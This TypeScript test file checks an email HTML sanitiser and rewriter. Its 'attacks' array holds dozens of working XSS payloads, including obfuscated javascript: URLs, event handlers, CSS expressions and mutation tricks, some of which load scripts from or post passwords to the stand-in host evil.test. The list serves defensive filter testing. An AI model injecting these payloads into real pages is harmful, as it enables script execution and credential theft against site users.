import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { filterHtml } from '@exchequer/server/internal/content/html-filter'
import { declareUtf8, rewriteHtml } from '@exchequer/server/internal/content/html-rewrite'
import { attributesOf, htmlTokens } from '@exchequer/server/internal/content/html-tags'
import fc from 'fast-check'

/** Ways to run something from a page, as people who test filters collect them. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.test/x.js></SCRIPT>',
  '<script/x src="http://evil.test/x.js"></script>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="javascript:alert(1)">',
  "<img src=JaVaScRiPt:alert('x')>",
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<img src="jav\tascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.test/%0ajavascript:alert(1)" onclick=alert(1)>x</a>',
  '<a href=x onmouseover="alert(1)">x</a>',
  '<body onload=alert(1) background="javascript:alert(1)">x</body>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="width: ex/**/pression(alert(1))">x</div>',
  '<div style="xss:e\\xpression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding:url(http://evil.test/x.xml#x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<style>@import "http://evil.test/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel=stylesheet href="http://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1);//">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="http://evil.test/x.swf" allowscriptaccess=always>',
  '<applet code=x.class></applet>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="http://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
  '<div id=location name=cookie class="a onerror=alert(1)">x</div>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
]

const knownNames =
  /^(?:align|alt|bgcolor|border|class|color|href|id|name|size|src|style|title|width|height|open|background)$/

/** Asserts that nothing of what a browser would make of it acts, by reading it as strictly as the writer wrote it. */
function assertHarmless(html: string, source: string): void {
  assert.doesNotMatch(
    html,
    /<(?:!|\?|script|style|iframe|object|svg|math|form|input|link|meta|base|template|title)/i,
    source,
  )
  for (const token of htmlTokens(html)) {
    if (token.kind !== 'open') continue
    assert.match(html.slice(token.start, token.end), /^<[a-z0-9]+(?: [a-z]+="[^"<>]*")*>$/, source)
    for (const [name, value] of attributesOf(token.attributes)) {
      assert.match(name, knownNames, source)
      if (/^(?:href|src|background)$/.test(name))
        assert.match(value, /^(?:https?:|cid:|mailto:|data:image\/png|#)/, source)
      if (name === 'style') assert.doesNotMatch(value, /\(|\\|position|behavior|binding/i, source)
    }
  }
}

describe('filtered HTML', () => {
  test('runs nothing, whatever was tried', () => {
    for (const attack of attacks)
      for (const as of ['document', 'fragment'] as const) {
        const html = filterHtml(`<p>before</p>${attack}`, as)
        assertHarmless(html, attack)
        assert.match(html, /^<p>before<\/p>/)
        assert.equal(filterHtml(html, as), html, 'and is left alone when it is filtered again')
      }
  })

  test('runs nothing, however the pieces of such tries are put together', () => {
    const pieces = [
      ...attacks.flatMap((attack) => attack.split(/(?=[<>"'=])/)),
      ' ',
      '\n',
      '/',
      '\u0000',
      '&',
      '-->',
      '</p>',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
        const html = filterHtml(parts.join(''), 'fragment')
        for (const token of htmlTokens(html)) {
          if (token.kind !== 'open') continue
          assert.match(html.slice(token.start, token.end), /^<[a-z0-9]+(?: [a-z]+="[^"<>]*")*>$/)
          for (const [name] of attributesOf(token.attributes)) assert.doesNotMatch(name, /^on/)
        }
        assert.doesNotMatch(html, /<(?:!|\?|script|style|iframe|svg)/i)
      }),
      { numRuns: 3000 },
    )
  })

  test('keeps what mail is written with', () => {
    const html =
      '<table width="100%"><tr><td style="color:#333;font-family:Arial;padding:3pt">a &lt; b &amp; c</td></tr></table>' +
      '<p align="center"><a href="https://x.test/?a=1&amp;b=2">link</a> <img src="cid:logo@x" alt="Logo"></p><ul><li>one</li></ul>'
    assert.equal(filterHtml(html, 'document'), html)
  })

  test('names nothing that a page around it could mean, and still leads to its own anchors', () => {
    assert.equal(
      filterHtml('<a href="#top">up</a><a name="top" class="one two">here</a>', 'fragment'),
      '<a href="#x_top">up</a><a name="x_top" class="x_one x_two">here</a>',
    )
  })

  test('closes what it opens and nothing else', () => {
    assert.equal(filterHtml('<div><b>a</div>b</i></div><div>c', 'fragment'), '<div><b>a</b></div>b<div>c</div>')
    assert.equal(filterHtml('<html><body bgcolor="red"><p>a<p>b</body></html>', 'fragment'), '<p>a<p>b')
  })

  test('takes linear time on hostile input', () => {
    for (const piece of [
      '<div>',
      '</div>',
      '<a x="',
      "<a x='",
      '<p style="a:b;',
      '<a href=',
      '<',
      '<b></i>',
      '<td background=x>',
    ])
      assert.ok(filterHtml(piece.repeat(Math.floor(500_000 / piece.length)), 'fragment').length < 5_000_000, piece)
  })
})

describe('rewritten HTML', () => {
  const nothing = { blankTargets: false, blockExternalImages: false, inlineImageUrl: undefined }

  test('is the same to the letter where there is nothing to do', () => {
    const html = '<!-- c --><A HREF=x>y</A><img src=cid:a><script>1</script>'
    assert.equal(rewriteHtml(html, nothing), html)
    assert.equal(rewriteHtml(html, { ...nothing, blockExternalImages: true }), html)
  })

  test('opens its links in windows of their own', () => {
    assert.equal(
      rewriteHtml('<A HREF="x?a&amp;b" target=_self>y</A><a name=z>', { ...nothing, blankTargets: true }),
      '<a href="x?a&amp;b" target="_blank">y</A><a name=z>',
    )
  })

  test('loads no pictures from elsewhere', () => {
    const blocked = rewriteHtml(
      '<img src="http://x.test/p.gif" width=1><img src="cid:a"><td background="//x.test/b"><p style="background:url(http://x.test)">',
      { ...nothing, blockExternalImages: true },
    )
    assert.doesNotMatch(blocked, /(?<!blockedimage)(?:src|background)="(?:http|\/\/)|url\(/)
    assert.match(blocked, /blockedimagesrc="http:\/\/x\.test\/p\.gif"/)
    assert.match(blocked, /<img src="cid:a">/)
  })

  test('shows inline pictures from where the template says', () => {
    const inlineImageUrl = (id: string) => (id === 'a@b' ? 'https://x.test/?q=1' : undefined)
    assert.equal(
      rewriteHtml('<img src="cid:a%40b"><img src="CID:other">', { ...nothing, inlineImageUrl }),
      '<img src="https://x.test/?q=1"><img src="CID:other">',
    )
  })

  test('names the character set that text on the wire has', () => {
    assert.equal(
      declareUtf8('<head><META http-equiv="Content-Type" content="text/html; charset=koi8-r"></head>x charset=koi8-r'),
      '<head><META http-equiv="Content-Type" content="text/html; charset=utf-8"></head>x charset=koi8-r',
    )
    assert.equal(declareUtf8('<meta charset="big5">'), '<meta charset="utf-8">')
  })
})
